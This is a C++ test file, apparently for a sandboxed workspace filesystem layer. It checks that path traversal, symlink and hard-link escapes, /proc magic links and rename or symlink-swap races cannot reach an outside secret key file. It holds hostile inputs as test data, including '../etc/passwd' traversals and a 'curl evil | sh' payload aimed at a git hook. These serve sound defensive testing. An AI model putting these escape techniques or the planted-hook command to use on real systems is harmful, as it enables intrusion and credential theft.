// T1 for the gateway's workspace file layer: path traversal, symlink escape, magic links, a
// symlinked root, rename/EAGAIN and symlink-swap races, hard links, torn writes and size caps.
// Real files in real temporary directories, the real kernel's openat2; every attack has its
// benign control next to it.
#include <fcntl.h>
#include <gtest/gtest.h>
#include <signal.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

#include <atomic>
#include <chrono>
#include <cstdlib>
#include <filesystem>
#include <random>
#include <string>
#include <thread>
#include <vector>

#include "fs/path_glob.h"
#include "fs/pending_writes.h"
#include "fs/workspace_path.h"
#include "fs/workspace_root.h"

namespace anvil {
namespace t1_fs_workspace_test {
namespace {

using namespace std::string_literals;

class TempDir {
 public:
  explicit TempDir(const std::string& prefix = "anvil-t1fs") {
    std::string templ = "/tmp/" + prefix + "-XXXXXX";
    if (::mkdtemp(templ.data()) == nullptr) std::abort();
    path_ = templ;
  }
  ~TempDir() {
    std::error_code ec;
    std::filesystem::remove_all(path_, ec);  // does not follow symlinks
  }
  TempDir(const TempDir&) = delete;
  TempDir& operator=(const TempDir&) = delete;
  const std::string& path() const { return path_; }
  std::string operator/(const std::string& rel) const { return path_ + "/" + rel; }

 private:
  std::string path_;
};

void Put(const std::string& path, const std::string& data) {
  const int fd = ::open(path.c_str(), O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
  ASSERT_GE(fd, 0) << path;
  ASSERT_EQ(::write(fd, data.data(), data.size()), static_cast<ssize_t>(data.size()));
  ::close(fd);
}

std::string Slurp(const std::string& path) {
  const int fd = ::open(path.c_str(), O_RDONLY | O_CLOEXEC);
  if (fd < 0) return "<missing>";
  std::string out;
  char buf[65536];
  ssize_t n;
  while ((n = ::read(fd, buf, sizeof buf)) > 0) out.append(buf, static_cast<size_t>(n));
  ::close(fd);
  return out;
}

void MkDir(const std::string& path) { ASSERT_EQ(::mkdir(path.c_str(), 0755), 0) << path; }
void SymLink(const std::string& target, const std::string& link) {
  ASSERT_EQ(::symlink(target.c_str(), link.c_str()), 0) << link;
}
bool IsSymlink(const std::string& path) {
  struct stat st {};
  return ::lstat(path.c_str(), &st) == 0 && S_ISLNK(st.st_mode);
}

// Stops and joins a background thread however the test body exits (an ASSERT returning early
// must not leave a joinable std::thread to terminate the process).
class BackgroundLoop {
 public:
  template <class F>
  explicit BackgroundLoop(F body) : thread_([this, body] { body(stop_); }) {}
  ~BackgroundLoop() { Stop(); }
  BackgroundLoop(const BackgroundLoop&) = delete;
  BackgroundLoop& operator=(const BackgroundLoop&) = delete;
  void Stop() {
    stop_ = true;
    if (thread_.joinable()) thread_.join();
  }

 private:
  std::atomic<bool> stop_{false};
  std::thread thread_;
};

// Atomically points `link` at `target` (symlink to a temporary name, rename over).
void Repoint(const std::string& link, const std::string& target) {
  const std::string tmp = link + ".swap";
  ::unlink(tmp.c_str());
  if (::symlink(target.c_str(), tmp.c_str()) == 0) ::rename(tmp.c_str(), link.c_str());
}

WorkspaceRoot OpenRoot(const std::string& path, const WorkspaceOptions& options = {}) {
  auto root = WorkspaceRoot::Open(path, options);
  if (!root) {
    ADD_FAILURE() << root.error().ToString();
    std::abort();
  }
  return std::move(*root);
}

std::string CodeOf(const Status& s) { return s ? "ok" : s.error().code; }
template <class T>
std::string CodeOf(const Result<T>& r) {
  return r ? "ok" : r.error().code;
}
template <class T>
std::string Describe(const Result<T>& r) {
  return r ? "ok" : r.error().ToString();
}
std::string Describe(const Status& s) { return s ? "ok" : s.error().ToString(); }

// A workspace and, beside it, an "outside" directory holding a secret the attacks aim at.
struct Scene {
  TempDir outside{"anvil-t1fs-outside"};
  TempDir ws{"anvil-t1fs-ws"};
  std::string secret_path;
  Scene() {
    secret_path = outside / "id_ed25519";
    Put(secret_path, "SECRET");
    Put(ws / "hello.txt", "INSIDE");
    MkDir(ws / "sub");
    Put(ws / "sub/file", "SUBFILE");
  }
};

// ---------------------------------------------------------------------------------------------
// Traversal and path syntax: refused before the kernel ever sees the path.

TEST(T1FsWorkspace, DotDotTraversalIsInvalid) {
  Scene s;
  WorkspaceRoot root = OpenRoot(s.ws.path());
  const std::string rel_secret =
      "../" + std::filesystem::path(s.outside.path()).filename().string() + "/id_ed25519";
  auto attack = root.Read(rel_secret);
  EXPECT_EQ(Describe(attack), "invalid: '..' component in path: " + rel_secret);
  EXPECT_EQ(CodeOf(root.Read("../../../../../../etc/passwd")), "invalid");
  // Even a ".." that stays inside, which the kernel would resolve happily, has no place here.
  EXPECT_EQ(CodeOf(root.Read("sub/../hello.txt")), "invalid");
  EXPECT_EQ(CodeOf(root.Write("sub/../x", "x")), "invalid");
  EXPECT_EQ(CodeOf(root.Rename("hello.txt", "../stolen")), "invalid");
  EXPECT_EQ(Slurp(s.outside / "stolen"), "<missing>");
  // Benign control.
  EXPECT_EQ(Describe(root.Read("sub/file")), "ok");
  EXPECT_EQ(*root.Read("hello.txt"), "INSIDE");
}

TEST(T1FsWorkspace, AbsolutePathsAreInvalid) {
  Scene s;
  WorkspaceRoot root = OpenRoot(s.ws.path());
  EXPECT_EQ(Describe(root.Read(s.secret_path)), "invalid: absolute path: " + s.secret_path);
  EXPECT_EQ(CodeOf(root.Read(s.ws / "hello.txt")), "invalid");  // even one inside the workspace
  EXPECT_EQ(CodeOf(root.Write(s.outside / "planted", "x")), "invalid");
  EXPECT_EQ(CodeOf(root.List("/")), "invalid");
  EXPECT_EQ(CodeOf(root.Stat("/etc/passwd")), "invalid");
  EXPECT_EQ(Slurp(s.outside / "planted"), "<missing>");
  EXPECT_EQ(*root.Read("hello.txt"), "INSIDE");
}

TEST(T1FsWorkspace, EmptyComponentsAndNonUtf8AreRejectedBeforeAnySyscall) {
  Scene s;
  // Names the kernel would happily resolve: proof that the refusal is ours, made before openat2.
  Put(s.ws / "\xff", "RAW-BYTE-NAME");
  Put(s.ws / "caf\xc0\xa9", "OVERLONG-NAME");
  Put(s.ws / "esc\x1b[2J", "CONTROL-NAME");
  WorkspaceRoot root = OpenRoot(s.ws.path());
  EXPECT_EQ(CodeOf(root.Read("sub//file")), "invalid");
  EXPECT_EQ(CodeOf(root.Read("sub/./file")), "invalid");
  EXPECT_EQ(CodeOf(root.List("sub/")), "invalid");
  EXPECT_EQ(CodeOf(root.Read("./hello.txt")), "invalid");
  EXPECT_EQ(CodeOf(root.Read("\xff")), "invalid");
  EXPECT_EQ(CodeOf(root.Read("caf\xc0\xa9")), "invalid");
  EXPECT_EQ(CodeOf(root.Read("esc\x1b[2J")), "invalid");
  EXPECT_EQ(CodeOf(root.Read("hello.txt\0/../../x"s)), "invalid");
  EXPECT_EQ(CodeOf(root.Write("\xff", "overwrite")), "invalid");
  EXPECT_EQ(Slurp(s.ws / "\xff"), "RAW-BYTE-NAME");
  EXPECT_EQ(CodeOf(root.Write("sub//new", "x")), "invalid");
  EXPECT_EQ(Slurp(s.ws / "sub/new"), "<missing>");
  // The listing cannot hand such names to a plugin either, but says how many it left out.
  auto listing = root.List(".");
  ASSERT_TRUE(listing) << listing.error().ToString();
  EXPECT_EQ(listing->omitted, 3u);
  std::vector<std::string> names;
  for (const auto& e : listing->entries) names.push_back(e.name);
  EXPECT_EQ(names, (std::vector<std::string>{"hello.txt", "sub"}));
  // Benign control.
  EXPECT_EQ(*root.Read("sub/file"), "SUBFILE");
}

// ---------------------------------------------------------------------------------------------
// Symlinks.

TEST(T1FsWorkspace, SymlinkPointingOutsideIsRefused) {
  Scene s;
  SymLink(s.secret_path, s.ws / "abs_link");  // absolute target
  const std::string up = "../" + std::filesystem::path(s.outside.path()).filename().string();
  SymLink(up + "/id_ed25519", s.ws / "rel_link");                  // relative, climbs out
  SymLink(s.outside.path(), s.ws / "dir_link");                    // a directory outside
  SymLink("../../" + up + "/id_ed25519", s.ws / "sub/deep_link");  // from a subdirectory
  WorkspaceRoot root = OpenRoot(s.ws.path());
  for (const char* p : {"abs_link", "rel_link", "dir_link/id_ed25519", "sub/deep_link"}) {
    auto r = root.Read(p);
    ASSERT_FALSE(r) << p << " read " << *r;
    EXPECT_EQ(r.error().ToString(), "denied: path escapes the workspace: "s + p);
  }
  EXPECT_EQ(CodeOf(root.List("dir_link")), "denied");
  EXPECT_EQ(CodeOf(root.Stat("dir_link/id_ed25519")), "denied");
  // Mutations through the outside directory link are refused too; nothing appears outside.
  EXPECT_EQ(CodeOf(root.Write("dir_link/planted", "x")), "denied");
  EXPECT_EQ(CodeOf(root.Mkdir("dir_link/d")), "denied");
  EXPECT_EQ(CodeOf(root.Remove("dir_link/id_ed25519")), "denied");
  EXPECT_EQ(CodeOf(root.Rename("dir_link/id_ed25519", "stolen")), "denied");
  EXPECT_EQ(Slurp(s.outside / "planted"), "<missing>");
  EXPECT_EQ(Slurp(s.secret_path), "SECRET");
  // Stat reports the link itself (lstat semantics) without following it.
  auto st = root.Stat("abs_link");
  ASSERT_TRUE(st) << st.error().ToString();
  EXPECT_EQ(st->type, FileType::kSymlink);
}

TEST(T1FsWorkspace, SymlinkPointingInsideIsFollowedUnlessNoSymlinks) {
  Scene s;
  SymLink("sub/file", s.ws / "in_link");
  SymLink("../hello.txt", s.ws / "sub/up_link");  // ".." that stays beneath the root
  SymLink("sub", s.ws / "sub_dir_link");
  {
    WorkspaceRoot root = OpenRoot(s.ws.path());
    EXPECT_EQ(Describe(root.Read("in_link")), "ok");
    EXPECT_EQ(*root.Read("in_link"), "SUBFILE");
    EXPECT_EQ(*root.Read("sub/up_link"), "INSIDE");
    EXPECT_EQ(*root.Read("sub_dir_link/file"), "SUBFILE");
    EXPECT_EQ(CodeOf(root.List("sub_dir_link")), "ok");
  }
  WorkspaceOptions hardened;
  hardened.no_symlinks = true;
  WorkspaceRoot root = OpenRoot(s.ws.path(), hardened);
  for (const char* p : {"in_link", "sub/up_link", "sub_dir_link/file"}) {
    auto r = root.Read(p);
    ASSERT_FALSE(r) << p;
    EXPECT_EQ(r.error().ToString(),
              "denied: path goes through a symlink, which is not followed here: "s + p);
  }
  EXPECT_EQ(CodeOf(root.List("sub_dir_link")), "denied");
  // Benign control: plain paths still work, and a link can still be stat'ed and listed.
  EXPECT_EQ(*root.Read("sub/file"), "SUBFILE");
  EXPECT_EQ(root.Stat("in_link")->type, FileType::kSymlink);
}

TEST(T1FsWorkspace, SymlinkCannotCarryANarrowGrantToAnotherName) {
  Scene s;
  MkDir(s.ws / "docs");
  Put(s.ws / "docs/guide.md", "GUIDE");
  Put(s.ws / ".env", "API_KEY=hunter2");
  SymLink("../.env", s.ws / "docs/env_link");
  SymLink("guide.md", s.ws / "docs/guide_link");
  WorkspaceRoot root = OpenRoot(s.ws.path());
  const std::vector<std::string> grant = {"docs/**"};
  ResolvedPathCheck check = [&](std::string_view resolved) {
    return GrantAllows(grant, resolved, Access::kRead);
  };
  ASSERT_TRUE(GrantAllows(grant, "docs/env_link", Access::kRead));  // the name looks granted
  auto attack = root.Read("docs/env_link", check);
  EXPECT_EQ(Describe(attack), "denied: symlink leads outside the grant: docs/env_link -> .env");
  // Benign: a link that stays inside the grant, and plain granted files.
  EXPECT_EQ(Describe(root.Read("docs/guide_link", check)), "ok");
  EXPECT_EQ(*root.Read("docs/guide.md", check), "GUIDE");
  EXPECT_EQ(CodeOf(root.List("docs", check)), "ok");
}

TEST(T1FsWorkspace, WritesNeverFollowSymlinksEvenInsideTheWorkspace) {
  Scene s;
  MkDir(s.ws / ".git");
  MkDir(s.ws / ".git/hooks");
  MkDir(s.ws / "notes");
  SymLink("../.git/hooks", s.ws / "notes/hooks_link");
  WorkspaceRoot root = OpenRoot(s.ws.path());
  // The grant check sees "notes/hooks_link/pre-commit"; following the link would write a git hook.
  EXPECT_EQ(CodeOf(root.Write("notes/hooks_link/pre-commit", "curl evil | sh")), "denied");
  EXPECT_EQ(CodeOf(root.Mkdir("notes/hooks_link/d")), "denied");
  EXPECT_EQ(CodeOf(root.Rename("hello.txt", "notes/hooks_link/pre-commit", true)), "denied");
  EXPECT_EQ(Slurp(s.ws / ".git/hooks/pre-commit"), "<missing>");
  // Benign control: writing a real directory works.
  EXPECT_EQ(Describe(root.Write("notes/today.md", "todo")), "ok");
  EXPECT_EQ(Slurp(s.ws / "notes/today.md"), "todo");
}

// A write says whether it made its name, decided by the step that put the data there, for the
// plugin's count of files made (T6): a name looked at before the write and moved away (renamed
// elsewhere, by the plugin's own fs.rename) before the data took it was a rewrite at the look
// and a new file at the end, uncounted, so each such race gave one more file. Every name the
// test ends with was made by a write that said so; the writes that replaced a file said so too.
TEST(T1FsWorkspace, AWriteSaysWhetherItMadeItsNameWhileTheNameIsMovedAway) {
  TempDir ws;
  WorkspaceRoot root = OpenRoot(ws.path());
  MkDir(ws / "moved");
  std::atomic<int> moved{0};
  BackgroundLoop mover([&](std::atomic<bool>& stop) {
    while (!stop) {
      const std::string to = ws / ("moved/" + std::to_string(moved.load()));
      if (::rename((ws / "x").c_str(), to.c_str()) == 0) ++moved;
    }
  });
  int created = 0, replaced = 0;
  for (int i = 0; i < 500; ++i) {
    WriteOutcome outcome;
    const Status s = root.Write("x", "data", &outcome);
    ASSERT_TRUE(s) << Describe(s);
    EXPECT_TRUE(outcome.placed);
    (outcome.created ? created : replaced) += 1;
  }
  mover.Stop();
  struct stat st {};
  const int there = moved.load() + (::lstat((ws / "x").c_str(), &st) == 0 ? 1 : 0);
  EXPECT_EQ(created, there) << replaced << " writes replaced a file";
  // The benign neighbour: with nobody else there, a rewrite makes nothing.
  WriteOutcome first, again;
  ASSERT_TRUE(root.Write("y", "1", &first));
  ASSERT_TRUE(root.Write("y", "2", &again));
  EXPECT_TRUE(first.created);
  EXPECT_FALSE(again.created);
  EXPECT_TRUE(again.placed);
  EXPECT_EQ(Slurp(ws / "y"), "2");
  // A symlink at the name is replaced, a rewrite, not written through.
  SymLink("y", ws / "l");
  WriteOutcome over_link;
  ASSERT_TRUE(root.Write("l", "3", &over_link));
  EXPECT_FALSE(over_link.created);
  EXPECT_FALSE(IsSymlink(ws / "l"));
  EXPECT_EQ(Slurp(ws / "y"), "2");
  // A directory at the name is refused and kept.
  MkDir(ws / "d");
  WriteOutcome refused;
  EXPECT_EQ(CodeOf(root.Write("d", "x", &refused)), "invalid");
  EXPECT_FALSE(refused.placed);
  EXPECT_TRUE(std::filesystem::is_directory(ws / "d"));
}

// A name that becomes a directory between the write's look and its rename: the rename over it
// refuses (EISDIR), the directory stays, and the temporary name is gone. Never a swap. (A write
// that finds the directory at RENAME_NOREPLACE and the name free at the rename after it makes the
// name and may count it as a rewrite: the directory removed in between was counted when made.)
TEST(T1FsWorkspace, ANameThatBecomesADirectoryDuringAWriteIsRefusedAndKept) {
  TempDir ws;
  WorkspaceRoot root = OpenRoot(ws.path());
  BackgroundLoop flipper([&](std::atomic<bool>& stop) {
    while (!stop) {
      if (::mkdir((ws / "f").c_str(), 0755) == 0) ::rmdir((ws / "f").c_str());
    }
  });
  int written = 0, refused = 0;
  for (int i = 0; i < 300; ++i) {
    WriteOutcome did;
    const Status s = root.Write("f", "data", &did);
    if (s) {
      ++written;
      EXPECT_TRUE(did.placed);
      EXPECT_EQ(Slurp(ws / "f"), "data");
      ASSERT_EQ(::unlink((ws / "f").c_str()), 0);
    } else {
      ++refused;
      EXPECT_EQ(CodeOf(s), "invalid") << Describe(s);
      EXPECT_FALSE(did.placed);
    }
  }
  flipper.Stop();
  for (const auto& e : std::filesystem::directory_iterator(ws.path())) {
    EXPECT_NE(e.path().filename().string().rfind(".anvil-tmp-", 0), 0u) << e.path();
  }
  EXPECT_GT(written + refused, 0);
}

// What the write does after renameat2(RENAME_NOREPLACE) answered (DecidePlacement).
TEST(T1FsWorkspace, AWritePlacesItsDataAsTheNoReplaceRenameAnswered) {
  struct Row {
    const char* name;
    int err;
    bool existed;
    Placement want;
  };
  const Row rows[] = {
      {"made the name", 0, false, {true, false, false, true}},
      {"made a name the look saw", 0, true, {true, false, false, true}},
      {"a name there: renamed over, watched", EEXIST, false, {false, true, true, false}},
      {"a name there, seen: renamed over, watched", EEXIST, true, {false, true, true, false}},
      {"no flag: renamed over, new as looked", EINVAL, false, {false, true, false, true}},
      {"no flag: renamed over, rewrite as looked", EINVAL, true, {false, true, false, false}},
      {"no renameat2: as without the flag", ENOSYS, false, {false, true, false, true}},
      {"a directory missing: fails", ENOENT, false, {}},
      {"permission: fails", EACCES, true, {}},
      {"disk full: fails", ENOSPC, false, {}},
  };
  for (const Row& row : rows) {
    const Placement got = DecidePlacement(row.err, row.existed);
    EXPECT_EQ(got.done, row.want.done) << row.name;
    EXPECT_EQ(got.rename_over, row.want.rename_over) << row.name;
    EXPECT_EQ(got.watch_replaced, row.want.watch_replaced) << row.name;
    EXPECT_EQ(got.created, row.want.created) << row.name;
  }
  // After a rename over the name: what was there just before, and its links after.
  EXPECT_FALSE(RenameOverMadeTheName(true, 1, 0)) << "replaced: a rewrite";
  EXPECT_FALSE(RenameOverMadeTheName(true, 2, 1)) << "replaced, another hard link kept: a rewrite";
  EXPECT_FALSE(RenameOverMadeTheName(true, 3, 2)) << "replaced, hard links kept: a rewrite";
  EXPECT_TRUE(RenameOverMadeTheName(true, 1, 1)) << "moved away in between: made";
  EXPECT_TRUE(RenameOverMadeTheName(true, 2, 2)) << "linked elsewhere, moved away: made";
  EXPECT_TRUE(RenameOverMadeTheName(false, 0, 0)) << "gone before it was opened: made";
}

TEST(T1FsWorkspace, WriteReplacesASymlinkInsteadOfFollowingIt) {
  Scene s;
  SymLink(s.secret_path, s.ws / "abs_link");
  SymLink("hello.txt", s.ws / "in_link");
  WorkspaceRoot root = OpenRoot(s.ws.path());
  EXPECT_EQ(Describe(root.Write("abs_link", "mine")), "ok");
  EXPECT_EQ(Slurp(s.secret_path), "SECRET");  // the target outside is untouched
  EXPECT_FALSE(IsSymlink(s.ws / "abs_link"));
  EXPECT_EQ(Slurp(s.ws / "abs_link"), "mine");
  EXPECT_EQ(Describe(root.Write("in_link", "replaced")), "ok");
  EXPECT_EQ(Slurp(s.ws / "hello.txt"), "INSIDE");
  EXPECT_EQ(Slurp(s.ws / "in_link"), "replaced");
}

TEST(T1FsWorkspace, RemoveAndRenameActOnTheLinkNotItsTarget) {
  Scene s;
  SymLink(s.secret_path, s.ws / "abs_link");
  SymLink(s.outside.path(), s.ws / "dir_link");
  WorkspaceRoot root = OpenRoot(s.ws.path());
  EXPECT_EQ(Describe(root.Rename("abs_link", "renamed_link")), "ok");
  EXPECT_TRUE(IsSymlink(s.ws / "renamed_link"));
  EXPECT_EQ(Describe(root.Remove("renamed_link")), "ok");
  EXPECT_EQ(Describe(root.Remove("dir_link")), "ok");
  EXPECT_EQ(Slurp(s.secret_path), "SECRET");
  EXPECT_TRUE(std::filesystem::is_directory(s.outside.path()));
}

// ---------------------------------------------------------------------------------------------
// Magic links.

TEST(T1FsWorkspace, MagicLinksCannotBeNamedOrFollowed) {
  Scene s;
  SymLink("/proc/self/root", s.ws / "proc_root");
  SymLink("/proc/self/cwd", s.ws / "proc_cwd");
  WorkspaceRoot root = OpenRoot(s.ws.path());
  // /proc/self/... can't even be named: it is an absolute path.
  EXPECT_EQ(CodeOf(root.Read("/proc/self/root" + s.secret_path)), "invalid");
  // A symlink in the workspace to a magic link is refused.
  EXPECT_EQ(CodeOf(root.Read("proc_root" + s.secret_path)), "denied");
  EXPECT_EQ(CodeOf(root.List("proc_root")), "denied");
  EXPECT_EQ(CodeOf(root.Read("proc_cwd/x")), "denied");

  // RESOLVE_NO_MAGICLINKS itself: a workspace whose tree contains magic links (/proc/<pid>).
  // "root", "cwd", "exe" and "fd/N" jump anywhere, ignoring RESOLVE_BENEATH's root.
  WorkspaceRoot proc = OpenRoot("/proc/self");
  for (const std::string& p :
       {"root" + s.secret_path, "root/etc/passwd"s, "cwd/hello.txt"s, "fd/0"s, "exe"s}) {
    auto r = proc.Read(p);
    ASSERT_FALSE(r) << p << " was read";
    EXPECT_EQ(r.error().ToString(), "denied: path escapes the workspace: " + p);
  }
  EXPECT_EQ(CodeOf(proc.List("root")), "denied");
  // Benign control: ordinary files beneath that root are readable.
  auto status = proc.Read("status");
  ASSERT_TRUE(status) << status.error().ToString();
  EXPECT_NE(status->find("Name:"), std::string::npos);
}

// ---------------------------------------------------------------------------------------------
// The workspace root itself.

TEST(T1FsWorkspace, RootThatIsASymlinkIsResolvedOnceAndPinned) {
  TempDir base;
  MkDir(base / "real1");
  MkDir(base / "real2");
  Put(base / "real1/f", "ONE");
  Put(base / "real2/f", "TWO");
  SymLink("real1", base / "ws");
  WorkspaceRoot root = OpenRoot(base / "ws");
  EXPECT_EQ(root.path(), base / "real1");
  EXPECT_EQ(*root.Read("f"), "ONE");
  // The attacker (say, a malicious project's tooling) swaps the root link mid-session.
  Repoint(base / "ws", "real2");
  ASSERT_EQ(Slurp(base / "ws/f"), "TWO");
  EXPECT_EQ(*root.Read("f"), "ONE");
  EXPECT_EQ(Describe(root.Write("g", "written")), "ok");
  EXPECT_EQ(Slurp(base / "real1/g"), "written");
  EXPECT_EQ(Slurp(base / "real2/g"), "<missing>");
  // Pointing the link outside the original tree changes nothing either.
  Repoint(base / "ws", "/etc");
  EXPECT_EQ(CodeOf(root.Read("passwd")), "not_found");
  // Benign control: a new session resolves the link anew.
  WorkspaceRoot fresh = OpenRoot(base / "ws");
  EXPECT_EQ(fresh.path(), "/etc");
}

TEST(T1FsWorkspace, OpenRefusesWhatCannotBeAWorkspace) {
  TempDir base;
  Put(base / "file", "x");
  EXPECT_EQ(CodeOf(WorkspaceRoot::Open(base / "missing")), "not_found");
  EXPECT_EQ(CodeOf(WorkspaceRoot::Open(base / "file")), "invalid");
  EXPECT_EQ(CodeOf(WorkspaceRoot::Open("/")), "invalid");  // beneath "/" confines nothing
  EXPECT_EQ(CodeOf(WorkspaceRoot::Open("")), "invalid");
  WorkspaceOptions zero;
  zero.max_read_bytes = 0;
  EXPECT_EQ(CodeOf(WorkspaceRoot::Open(base.path(), zero)), "invalid");
  EXPECT_EQ(CodeOf(WorkspaceRoot::Open(base.path())), "ok");
}

// ---------------------------------------------------------------------------------------------
// Races. Each loop runs long enough to interleave thousands of times on a 2-core machine.

// The classic RESOLVE_BENEATH race: while a path with ".." in a symlink is being resolved, a
// directory on that path is moved out of the workspace, so the ".." would climb from outside.
// The kernel answers EAGAIN (or EXDEV); we retry. No outcome may be the outside content.
// Measured on this machine class with 200,000 tries: a naive openat() reads the outside file
// ~20-180 times; openat2 returns EAGAIN ~30-1,000 times and never the outside file.
TEST(T1FsWorkspace, RenameRaceDuringResolutionNeverReadsOutside) {
  TempDir base;
  MkDir(base / "ws");
  MkDir(base / "ws/A");
  MkDir(base / "ws/A/B");
  Put(base / "ws/target.txt", "INSIDE");
  // A long detour (p/p/.../../..) before the decisive "../.." widens the race window.
  std::string dir = base / "ws/A/B", detour, back;
  for (int i = 0; i < 40; ++i) {
    dir += "/p";
    MkDir(dir);
    detour += "p/";
    back += "../";
  }
  SymLink(detour + back + "../../target.txt", base / "ws/A/B/link");
  // Outside: if B ends up at base/out/X/B, "../../target.txt" from B names base/out/target.txt.
  MkDir(base / "out");
  MkDir(base / "out/X");
  Put(base / "out/target.txt", "SECRET");
  WorkspaceRoot root = OpenRoot(base / "ws");

  std::atomic<long> moves{0};
  BackgroundLoop mover([&](const std::atomic<bool>& stop) {
    const std::string in = base / "ws/A/B", out = base / "out/X/B";
    while (!stop.load(std::memory_order_relaxed)) {
      if (::rename(in.c_str(), out.c_str()) == 0) ::rename(out.c_str(), in.c_str());
      moves.fetch_add(1, std::memory_order_relaxed);
    }
  });
  long ok = 0, not_found = 0, denied = 0, busy = 0, naive_leaks = 0;
  for (int i = 0; i < 30000; ++i) {
    auto r = root.Read("A/B/link");
    if (r) {
      ASSERT_EQ(*r, "INSIDE") << "read outside content on iteration " << i;
      ++ok;
    } else if (r.error().code == "not_found") {
      ++not_found;
    } else if (r.error().code == "denied") {
      ++denied;
    } else {
      ASSERT_EQ(r.error().code, "busy") << r.error().ToString();
      ++busy;
    }
    // Negative control, recorded and not asserted (it is a race): what a plain openat() beneath
    // the same root fd would have read.
    const int naive = ::openat(root.fd(), "A/B/link", O_RDONLY | O_CLOEXEC);
    if (naive >= 0) {
      char buf[8] = {};
      if (::read(naive, buf, 6) == 6 && std::string(buf) == "SECRET") ++naive_leaks;
      ::close(naive);
    }
  }
  mover.Stop();
  // Benign control inside the loop: while B is home, reads succeed.
  EXPECT_GT(ok, 0);
  EXPECT_GT(moves.load(), 100);
  RecordProperty("ok", static_cast<int>(ok));
  RecordProperty("not_found", static_cast<int>(not_found));
  RecordProperty("denied", static_cast<int>(denied));
  RecordProperty("busy", static_cast<int>(busy));
  RecordProperty("naive_openat_leaks", static_cast<int>(naive_leaks));
  EXPECT_EQ(*root.Read("A/B/link"), "INSIDE");
}

// Directories renamed inside the workspace while reads run: every read either succeeds with the
// file's content or fails cleanly; nothing else happens.
TEST(T1FsWorkspace, DirectoryRenamesInsideTheWorkspaceGiveCleanOutcomes) {
  Scene s;
  MkDir(s.ws / "d1");
  MkDir(s.ws / "d1/deep");
  Put(s.ws / "d1/deep/f", "DEEP");
  SymLink("../d1/deep/f", s.ws / "sub/via_dotdot");
  WorkspaceRoot root = OpenRoot(s.ws.path());
  BackgroundLoop mover([&](const std::atomic<bool>& stop) {
    const std::string a = s.ws / "d1", b = s.ws / "d2";
    while (!stop.load(std::memory_order_relaxed)) {
      if (::rename(a.c_str(), b.c_str()) == 0) ::rename(b.c_str(), a.c_str());
    }
  });
  long ok = 0;
  for (int i = 0; i < 10000; ++i) {
    for (const char* p : {"d1/deep/f", "sub/via_dotdot"}) {
      auto r = root.Read(p);
      if (r) {
        ASSERT_EQ(*r, "DEEP");
        ++ok;
      } else {
        ASSERT_TRUE(r.error().code == "not_found" || r.error().code == "busy")
            << r.error().ToString();
      }
    }
  }
  mover.Stop();
  EXPECT_GT(ok, 0);
}

TEST(T1FsWorkspace, SymlinkSwapRaceNeverReadsOutside) {
  Scene s;
  const std::string up = "../" + std::filesystem::path(s.outside.path()).filename().string();
  MkDir(s.outside / "dir");
  Put(s.outside / "dir/file", "SECRET");
  WorkspaceRoot root = OpenRoot(s.ws.path());
  SymLink("hello.txt", s.ws / "link");
  SymLink("sub", s.ws / "dlink");
  BackgroundLoop flipper([&](const std::atomic<bool>& stop) {
    // Between an inside target and an outside one, absolute and relative alternately.
    const std::string outside_targets[] = {s.secret_path, up + "/id_ed25519"};
    const std::string outside_dirs[] = {s.outside / "dir", up + "/dir"};
    for (unsigned i = 0; !stop.load(std::memory_order_relaxed); ++i) {
      Repoint(s.ws / "link", outside_targets[i % 2]);
      Repoint(s.ws / "dlink", outside_dirs[i % 2]);
      Repoint(s.ws / "link", "hello.txt");
      Repoint(s.ws / "dlink", "sub");
    }
  });
  long ok = 0, denied = 0;
  for (int i = 0; i < 5000; ++i) {
    auto r = root.Read("link");
    auto d = root.Read("dlink/file");
    for (auto* res : {&r, &d}) {
      if (*res) {
        ASSERT_NE(**res, "SECRET") << "read outside content on iteration " << i;
        ++ok;
      } else {
        // "not_found" only if the reader caught the link renamed away: rename is atomic, so no.
        ASSERT_EQ(res->error().code, "denied") << res->error().ToString();
        ++denied;
      }
    }
  }
  flipper.Stop();
  EXPECT_GT(ok, 0);      // the inside target was read
  EXPECT_GT(denied, 0);  // the outside target was hit, and refused
}

// ---------------------------------------------------------------------------------------------
// Hard links.

TEST(T1FsWorkspace, HardLinkToAFileOutsideIsRefused) {
  Scene s;
  ASSERT_EQ(::link(s.secret_path.c_str(), (s.ws / "hl").c_str()), 0);
  {
    WorkspaceRoot root = OpenRoot(s.ws.path());
    auto r = root.Read("hl");
    ASSERT_FALSE(r) << "read " << *r;
    EXPECT_EQ(r.error().code, "denied");
    EXPECT_NE(r.error().message.find("2 hard links"), std::string::npos);
    auto w = root.Write("hl", "overwritten");
    EXPECT_EQ(CodeOf(w), "denied");
    EXPECT_EQ(Slurp(s.secret_path), "SECRET");
    // Benign control: a file with one link reads and writes normally.
    EXPECT_EQ(*root.Read("hello.txt"), "INSIDE");
    EXPECT_EQ(Describe(root.Write("hello.txt", "NEW")), "ok");
  }
  // The workspace owner may allow hard-linked reads; writes stay refused.
  WorkspaceOptions allow;
  allow.allow_hardlinked_reads = true;
  WorkspaceRoot root = OpenRoot(s.ws.path(), allow);
  EXPECT_EQ(Describe(root.Read("hl")), "ok");
  EXPECT_EQ(CodeOf(root.Write("hl", "overwritten")), "denied");
  EXPECT_EQ(Slurp(s.secret_path), "SECRET");
}

// ---------------------------------------------------------------------------------------------
// Atomic writes.

bool Uniform(const std::string& data, char c, size_t size) {
  return data.size() == size && data.find_first_not_of(c) == std::string::npos;
}

TEST(T1FsWorkspace, ConcurrentReadersNeverSeeATornFile) {
  TempDir ws;
  WorkspaceRoot root = OpenRoot(ws.path());
  const std::string a(1 << 20, 'a'), b(3 << 20, 'b');
  ASSERT_TRUE(root.Write("big", a));
  std::atomic<bool> stop{false};
  std::atomic<long> reads{0};
  std::atomic<bool> torn{false};
  auto reader = [&] {
    while (!stop.load(std::memory_order_relaxed)) {
      auto r = root.Read("big");
      if (!r) {
        torn = true;  // the name must always exist: a replace never unlinks first
        return;
      }
      if (!Uniform(*r, 'a', a.size()) && !Uniform(*r, 'b', b.size())) torn = true;
      reads.fetch_add(1, std::memory_order_relaxed);
    }
  };
  {
    std::thread r1(reader), r2(reader);
    bool writes_ok = true;
    for (int i = 0; i < 200 && !torn && writes_ok; ++i)
      writes_ok = !!root.Write("big", i % 2 ? a : b);
    stop = true;
    r1.join();
    r2.join();
    ASSERT_TRUE(writes_ok);
  }
  EXPECT_FALSE(torn);
  EXPECT_GT(reads.load(), 0);
